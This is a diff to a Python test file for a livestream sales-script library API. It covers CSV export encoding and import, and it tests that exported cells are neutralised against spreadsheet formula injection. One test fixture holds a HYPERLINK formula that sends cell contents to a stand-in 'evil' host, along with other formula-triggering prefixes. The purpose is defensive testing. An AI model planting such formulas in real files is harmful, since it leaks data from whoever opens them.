@@ -95,7 +95,8 @@ async def test_scripts_export_and_import_as_csv_and_json(room):
         added = await http.post("/api/rooms/r1/scripts?format=csv", content=csv.encode(), headers=headers)
         assert added.status_code == 200 and added.json()["type"] == "ack"
         exported = await http.get("/api/rooms/r1/scripts?format=csv", headers=headers)
-        assert exported.text == csv
+        assert exported.content == b"\xef\xbb\xbf" + csv.replace("\n", "\r\n").encode()  # for Excel: a BOM, CRLF
+        assert exported.headers["content-type"] == "text/csv; charset=utf-8"
         as_json = (await http.get("/api/rooms/r1/scripts", headers=headers)).json()["lines"]
         assert [line["text"] for line in as_json] == ["欢迎{宝宝/家人们}", "{product} 只要 {price}, 快"]
         bad = await http.post("/api/rooms/r1/scripts?format=csv", content=b"purpose,text\nshout,x\n", headers=headers)
@@ -108,3 +109,38 @@ async def test_scripts_export_and_import_as_csv_and_json(room):
         guide = {"Authorization": f"Bearer {room.token('guide')}"}
         refused = await http.post("/api/rooms/r1/scripts?format=json", content=b'[{"purpose": "qa", "text": "x"}]', headers=guide)
         assert refused.status_code == 403
+
+
+TYPED = ["=HYPERLINK(\"http://evil/?\"&A1,\"点我\")", "+1 扣1", "-4792", "@SUM(1+1)", "'=已经引号", "＝全角", "欢迎\"家人们\", 快"]
+
+
+async def test_an_exported_library_opens_inert_and_imports_back_the_same(room):
+    """Lines that would run as formulas are written with a quote in front; importing
+    the exported file in place of the library gives the same lines back."""
+    import csv
+    import io
+
+    headers = {"Authorization": f"Bearer {room.token('controller')}"}
+    lines = [{"purpose": "qa", "tier": "hot", "sku": None, "product_role": None, "text": text} for text in TYPED]
+    async with room.http() as http:
+        assert (await http.post("/api/rooms/r1/scripts?format=json", json=lines, headers=headers)).status_code == 200
+        exported = (await http.get("/api/rooms/r1/scripts?format=csv", headers=headers)).content
+        cells = [row[-1] for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline=""))][1:]
+        assert cells == ["'" + TYPED[0], "'+1 扣1", "'-4792", "'@SUM(1+1)", "''=已经引号", "'＝全角", TYPED[6]]
+        again = await http.post("/api/rooms/r1/scripts?format=csv&replace=1", content=exported, headers=headers)
+        assert again.status_code == 200, again.text
+    library = await room.app.state.live.store.scripts("r1")
+    assert [line.text for line in library] == TYPED and len(library) == len(TYPED)
+
+
+async def test_a_library_saved_by_excel_in_gbk_imports(room):
+    headers = {"Authorization": f"Bearer {room.token('controller')}"}
+    csv = "purpose,tier,text\r\nwelcome,cold,欢迎家人们，点点关注\r\nhold,any,'=别走\r\n"
+    async with room.http() as http:
+        added = await http.post("/api/rooms/r1/scripts?format=csv", content=csv.encode("gb18030"), headers=headers)
+        assert added.status_code == 200, added.text
+        assert [line.text for line in await room.app.state.live.store.scripts("r1")] == ["欢迎家人们，点点关注", "=别走"]
+        utf16 = await http.post("/api/rooms/r1/scripts?format=csv", content=csv.encode("utf-16"), headers=headers)
+        assert utf16.status_code == 400 and utf16.json()["code"] == "file_encoding"
+    assert len(await room.app.state.live.store.scripts("r1")) == 2
+
